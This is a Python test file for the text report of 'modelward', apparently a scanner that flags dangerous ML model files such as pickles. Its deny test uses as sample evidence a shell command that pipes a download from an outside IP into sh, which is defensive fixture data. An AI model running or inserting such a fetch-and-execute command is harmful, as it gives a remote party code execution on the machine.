"""The text report: what a person reads, and what no file name can make them read."""

from __future__ import annotations

from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st
from tests.report.hostile import checks, dangerous, scans
from tests.report.samples import CALL, CLASS, CODE, NAME, checked, found, gap, lone, scanned

from modelward.core.finding import Severity
from modelward.core.result import Failure, Reason, Report, Waived, exit_code, gravest
from modelward.report.line import plain
from modelward.report.text import render
from modelward.report.view import Asked

TREE = "sha3_256:" + "ab" * 32
FILE = "sha256:" + "cd" * 32


def shown(*reports: Report, fail_on: Severity = Severity.MEDIUM, statements: str | None = None) -> str:
    return plain(render(reports, Asked(fail_on, statements)))


def test_an_allow() -> None:
    assert (
        shown(checked(scanned()))
        == f"""\
examined  2 of 2 files, 2.0 kB (1 json, 1 pickle)
waived    none
digest    {TREE}
not asked by baseline: signature, dependencies, provenance

next: keep this evidence: modelward check minilm --statements DIR
allow: 0 findings, 0 unexamined, 2 files, policy baseline (exit 0)
"""
    )


def test_a_deny() -> None:
    call = found(does="os.system('curl http://198.51.100.7/x | sh')", opcode="REDUCE", callable="posix.system")
    assert (
        shown(checked(scanned(call, label="minilm-evil")))
        == f"""\
critical[pickle-dangerous-call]: loading this file runs a shell command
  at   optimizer.pkl, byte 68, REDUCE
  does os.system('curl http://198.51.100.7/x | sh')
  with callable: posix.system
  why  pickle.load makes this call before it returns.
  file {FILE}
  do   Do not load it; remove it and tell whoever published it.

examined  3 of 3 files, 3.0 kB (1 json, 2 pickle); 2 others have no findings
waived    none
digest    {TREE}
not asked by baseline: signature, dependencies, provenance

next: modelward explain pickle-dangerous-call
deny: 1 critical, 0 unexamined, 3 files, policy baseline (exit 1)
"""
    )


def test_an_incomplete() -> None:
    broken = gap("scaler.pkl", "stream ends before STOP; nothing dangerous before that", "download it again", at=400)
    assert (
        shown(checked(scanned(gap(), broken, label="partial")))
        == f"""\
unexamined: big.safetensors
  why  Git LFS pointer; the 123,456 bytes it names are not here
  do   git lfs pull --include big.safetensors

unexamined: scaler.pkl, from byte 400
  why  stream ends before STOP; nothing dangerous before that
  do   download it again

examined  2 of 4 files fully, 1 partly, 1 not at all, 4.0 kB (1 json, 3 pickle)
waived    none
digest    {TREE}
not asked by baseline: signature, dependencies, provenance

next: follow the do lines above, then repeat this command
incomplete: 0 findings, 2 unexamined, 4 files, policy baseline (exit 3)
"""
    )


def test_a_scan_of_a_lone_file_speaks_of_the_file_by_the_name_it_was_given() -> None:
    assert (
        shown(lone(found(NAME, "", 7, ("archive/data.pkl",), "two names"), label="x/model.pt"))
        == f"""\
medium[zip-name-mismatch]: two names
  at   x/model.pt > archive/data.pkl, byte 7
  why  Readers differ.
  file {FILE}
  do   Get it again.

examined  1 of 1 file, 1.0 kB (1 pickle)
digest    {FILE}

next: modelward explain zip-name-mismatch
flagged: 1 medium, 0 unexamined, 1 file (exit 1)
"""
    )


def test_minor_findings_take_a_line_each_and_are_counted_beyond_ten() -> None:
    minor = [found(CLASS, f"{number:02}.pkl", message=f"builds a.B{number:02}") for number in range(13)]
    text = shown(scanned(*minor, found(CODE)))
    assert "low[pickle-unknown-class]: builds a.B00: 00.pkl, byte 68\n" in text
    assert "09.pkl, byte 68\nand 4 more minor findings: use --format json\n\nexamined" in text
    assert text.endswith("clean: 13 low, 1 info, 0 unexamined, 16 files (exit 0)\n")


def test_minor_findings_that_say_the_same_in_many_files_share_a_line() -> None:
    text = shown(scanned(*(found(CODE, f"{number}.py", None, message="Python code") for number in range(5))))
    assert text.startswith("info[tree-python-file]: Python code: 0.py (and 4 more like it)\n\nexamined")


def test_findings_that_decide_are_shown_in_full_whatever_their_severity() -> None:
    scan = scanned(found(CLASS))
    assert "  why  Its code may do anything.\n" not in shown(scan)
    assert "  why  Its code may do anything.\n" in shown(scan, fail_on=Severity.LOW)
    reason = Reason("pickle-unknown-class", "rule", "optimizer.pkl", "low, and the policy denies low")
    assert "  why  Its code may do anything.\n" in shown(replace(checked(scan, reason), decision="deny"))


def test_findings_that_say_the_same_in_one_file_are_folded() -> None:
    text = shown(scanned(*(found(at=at) for at in (5, 6, 7)), found(file="other.pkl")))
    assert "  at   optimizer.pkl, byte 5 (and 2 more like it)\n" in text
    assert "  at   other.pkl, byte 68\n" in text
    assert text.count("critical[") == 2
    assert "flagged: 4 critical, " in text


def test_at_most_twenty_blocks_and_the_rest_is_counted() -> None:
    text = shown(scanned(*(found(message=f"call {number}") for number in range(25))))
    assert text.count("critical[") == 20
    assert "\nand 5 more findings: use --format json\n" in text


def test_gaps_with_one_cause_share_a_block() -> None:
    text = shown(scanned(*(gap(f"{number}.onnx", "ONNX is not read yet", "") for number in range(8))))
    assert "unexamined: 0.onnx\n  also 1.onnx; 2.onnx; 3.onnx; 4.onnx; 5.onnx and 2 more\n  why  ONNX" in text
    assert "next: replace or remove what is unexamined, then repeat this command\nincomplete: " in text


def test_long_evidence_is_cut_and_says_so() -> None:
    assert "x" * 400 + " [600 more characters]\n" in shown(scanned(found(does="x" * 1000)))


def test_an_unmet_need_is_named() -> None:
    need = Reason("weights-without-code", "need", "model.bin", "weights only in formats that carry no code")
    text = shown(checked(scanned(), need, policy="safe-formats"))
    assert text.startswith("unmet[weights-without-code]: weights only in formats that carry no code (model.bin)\n")
    assert text.endswith("deny: 0 findings, 1 unmet need, 0 unexamined, 2 files, policy safe-formats (exit 1)\n")


def test_what_is_waived_is_shown_and_does_not_count() -> None:
    call = found()
    text = shown(checked(scanned(call), waived=(Waived(call, "2027-01-01", "reviewed by hand"),)), statements="ev")
    assert "waived    pickle-dangerous-call in optimizer.pkl until 2027-01-01: reviewed by hand\n" in text
    assert "evidence  2 statements in ev\n" in text
    assert text.endswith("\nallow: 0 findings, 0 unexamined, 1 waived, 3 files, policy baseline (exit 0)\n")
    assert "critical[" not in text


def test_what_was_left_out_is_said() -> None:
    text = shown(replace(scanned(), excluded=("docs", "a.bin"), left_out=(".git",)))
    assert "excluded  docs, a.bin\nleft out  .git\n" in text


def test_several_targets_have_one_answer_and_one_exit_code() -> None:
    reports = checked(scanned()), checked(scanned(found())), checked(scanned(gap()))
    text = shown(*reports)
    assert text.startswith("target    minilm\n\nexamined")
    assert text.endswith("\ndeny: 3 targets, 1 deny, 1 incomplete, 1 allow (exit 1)\n")
    assert text.count("(exit ") == 1
    assert shown(scanned(), scanned()).endswith("\nclean: 2 targets, 2 clean (exit 0)\n")


def test_of_many_targets_those_that_are_fine_are_counted() -> None:
    call = found()
    many = [checked(scanned(label=f"m{n}")) for n in range(500)]
    waived = checked(scanned(call, label="waived"), waived=(Waived(call, "2027-01-01", "read"),))
    text = shown(*many[:20], checked(scanned(found(), label="evil")), *many[20:], waived)
    assert [line.split()[1] for line in text.splitlines() if line.startswith("target ")] == ["evil", "waived"]
    assert text.endswith("\ndeny: 502 targets, 1 deny, 501 allow (exit 1)\n")
    assert shown(*many[:20]).count("target    ") == 20


def test_a_target_that_failed_outweighs_a_denial() -> None:
    text = shown(checked(scanned(found())), Failure("gone", "'gone' changed while it was read", 4))
    assert "target    gone\n\nfailed: 'gone' changed while it was read\n" in text
    assert text.endswith("\nfailed: 2 targets, 1 failed, 1 deny (exit 4)\n")


def test_the_gravest_exit_code_wins() -> None:
    assert gravest([]) == 0
    assert gravest([0, 3]) == 3
    assert gravest([3, 1, 0]) == 1
    assert gravest([1, 2, 3]) == 2
    assert gravest([1, 4, 2]) == 4


@given(scans | checks)
def test_no_name_can_forge_a_line(report: Report) -> None:
    lines = render([report], Asked())
    assert [line for line in lines if dangerous(line.head + line.text)] == []
    assert len(plain(lines).splitlines()) == len(lines)


@given(st.lists(scans, min_size=1, max_size=2) | st.lists(checks, min_size=1, max_size=2))
def test_the_last_line_holds_the_answer(reports: list[Report]) -> None:
    words = {0: ("allow:", "clean:"), 1: ("deny:", "flagged:"), 3: ("incomplete:",)}
    code = gravest(exit_code(report) for report in reports)
    text = shown(*reports)
    last = text.splitlines()[-1]
    assert last.startswith(words[code])
    assert last.endswith(f" (exit {code})")
    assert text == shown(*reports)


def test_every_rule_shows_its_severity() -> None:
    text = shown(scanned(found(CALL), found(NAME), found(CLASS), found(CODE)))
    assert [line.split("[")[0] for line in text.splitlines() if "[" in line] == ["critical", "medium", "low", "info"]
